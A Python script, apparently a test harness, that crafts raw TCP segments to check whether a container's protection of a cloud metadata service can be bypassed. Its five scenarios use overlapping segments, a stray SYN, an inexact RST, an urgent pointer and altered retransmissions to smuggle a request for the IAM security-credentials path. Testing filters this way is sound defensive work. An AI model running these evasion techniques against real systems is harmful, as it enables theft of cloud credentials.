"""Segment-level tricks from root in a "container": hand-made IPv4/TCP segments on raw sockets.

argv[1]: the metadata address (IPv4); argv[2]: the source address. Runs every scenario on its
own source port and prints one JSON object: {scenario: {"reset": bool, "data": str}}, where
data is every payload byte the peer sent back (in sequence order) and reset says a RST came.
The kernel's own RSTs (it knows nothing of these connections) must be dropped by the caller's
firewall; this script's packets carry SO_MARK 0x77 so the firewall can tell them apart.
"""
import json
import random
import select
import socket
import struct
import sys
import time

DST, SRC = sys.argv[1], sys.argv[2]
MARK = 0x77
FIN, SYN, RST, PSH, ACK, URG = 1, 2, 4, 8, 16, 32

tx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
tx.setsockopt(socket.SOL_SOCKET, 36, MARK)  # SO_MARK
rx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


class Conn:
    def __init__(self, sport):
        self.sport = sport
        self.isn = random.randrange(1 << 32)
        self.seq = self.isn
        self.ack = 0
        self.got = {}
        self.reset = False

    def send(self, flags, payload=b"", seq=None, urg=0):
        seq = self.seq if seq is None else seq
        tcp = struct.pack("!HHIIBBHHH", self.sport, 80, seq & 0xFFFFFFFF, self.ack if flags & ACK else 0,
                          5 << 4, flags, 65000, 0, urg)
        pseudo = socket.inet_aton(SRC) + socket.inet_aton(DST) + struct.pack("!BBH", 0, 6, len(tcp) + len(payload))
        c = csum(pseudo + tcp + payload)
        tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
        total = 20 + len(tcp) + len(payload)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, random.randrange(65536), 0, 64, 6, 0,
                         socket.inet_aton(SRC), socket.inet_aton(DST))
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        tx.sendto(ip + tcp + payload, (DST, 0))

    def pump(self, wait=0.3):
        """Reads the peer's segments for `wait` seconds (less once a RST came)."""
        end = time.monotonic() + wait
        synack = None
        while time.monotonic() < end:
            r, _, _ = select.select([rx], [], [], max(0, end - time.monotonic()))
            if not r:
                break
            pkt = rx.recv(65535)
            ihl = (pkt[0] & 15) * 4
            if socket.inet_ntoa(pkt[12:16]) != DST:
                continue
            sport, dport, seq, ack, off, flags = struct.unpack("!HHIIBB", pkt[ihl:ihl + 14])
            if dport != self.sport or sport != 80:
                continue
            payload = pkt[ihl + (off >> 4) * 4:]
            if flags & RST:
                self.reset = True
                return synack
            if flags & SYN:
                synack = seq
                continue
            if payload:
                self.got[seq] = payload
                self.ack = max(self.ack, (seq + len(payload)) & 0xFFFFFFFF)
                self.send(ACK)
            if flags & FIN:
                self.ack = (seq + len(payload) + 1) & 0xFFFFFFFF
                self.send(ACK)
        return synack

    def handshake(self):
        self.send(SYN)
        self.seq += 1
        server_isn = self.pump(1.0)
        if server_isn is None:
            raise RuntimeError("no SYN-ACK")
        self.ack = (server_isn + 1) & 0xFFFFFFFF
        self.send(ACK)

    def data(self, payload, **kw):
        self.send(ACK | PSH, payload, **kw)

    def result(self):
        data = b"".join(self.got[k] for k in sorted(self.got))
        return {"reset": self.reset, "data": data.decode("latin-1")}


def req(path):
    return ("GET %s HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n" % path).encode()


IAM = req("/latest/meta-data/iam/security-credentials/")
results = {}


def second_syn(c):
    c.handshake()
    c.data(b"GET /latest/meta-data/instance-id HTTP/1.1\r\n")
    c.seq += 44
    c.pump(0.2)
    # A second SYN in the middle of the stream, with a new sequence space and data.
    c.send(SYN, IAM, seq=c.seq + 100000)
    c.pump(0.3)
    c.data(b"X-Smuggled: " + IAM)
    c.seq += 12 + len(IAM)
    c.pump(1.0)


def inexact_rst(c):
    c.handshake()
    c.data(b"GET /latest/meta-data/instance-id HTTP/1.1\r\n")
    c.seq += 44
    c.pump(0.2)
    c.send(RST | ACK, seq=c.seq + 500)  # in the window, not exact
    c.pump(0.2)
    c.data(b"\r\n" + IAM)
    c.seq += 2 + len(IAM)
    c.pump(1.0)


def overlap_reverse(c):
    c.handshake()
    allowed = req("/latest/meta-data/placement/availability-zone")
    evil = req("/latest/meta-data/iam/security-credentials/xx")
    assert len(allowed) == len(evil), (len(allowed), len(evil))
    base = c.seq
    # The tail first, then overlapping middles of both versions in reverse, then the head.
    c.data(allowed[40:], seq=base + 40)
    c.data(evil[18:50], seq=base + 18)
    c.data(allowed[10:45], seq=base + 10)
    c.data(evil[0:20], seq=base)
    c.data(allowed[0:20], seq=base)
    c.seq = base + len(allowed)
    c.pump(1.5)


def urgent_pointer(c):
    c.handshake()
    c.send(ACK | PSH | URG, IAM, urg=22)
    c.seq += len(IAM)
    c.pump(1.0)


def retransmission_differs(c):
    c.handshake()
    first = req("/latest/meta-data/placement/availability-zone")
    second = req("/latest/meta-data/iam/security-credentials/xx")
    base = c.seq
    c.data(first[:30], seq=base)
    c.pump(0.2)
    c.data(second[:30], seq=base)  # "retransmission" with other bytes
    c.data(second[30:], seq=base + 30)
    c.seq = base + len(second)
    c.pump(1.5)


for i, scenario in enumerate([second_syn, inexact_rst, overlap_reverse, urgent_pointer, retransmission_differs]):
    c = Conn(41000 + i)
    try:
        scenario(c)
        results[scenario.__name__] = c.result()
    except Exception as e:  # reported, the test fails on it
        results[scenario.__name__] = {"error": repr(e), **c.result()}
print(json.dumps(results))
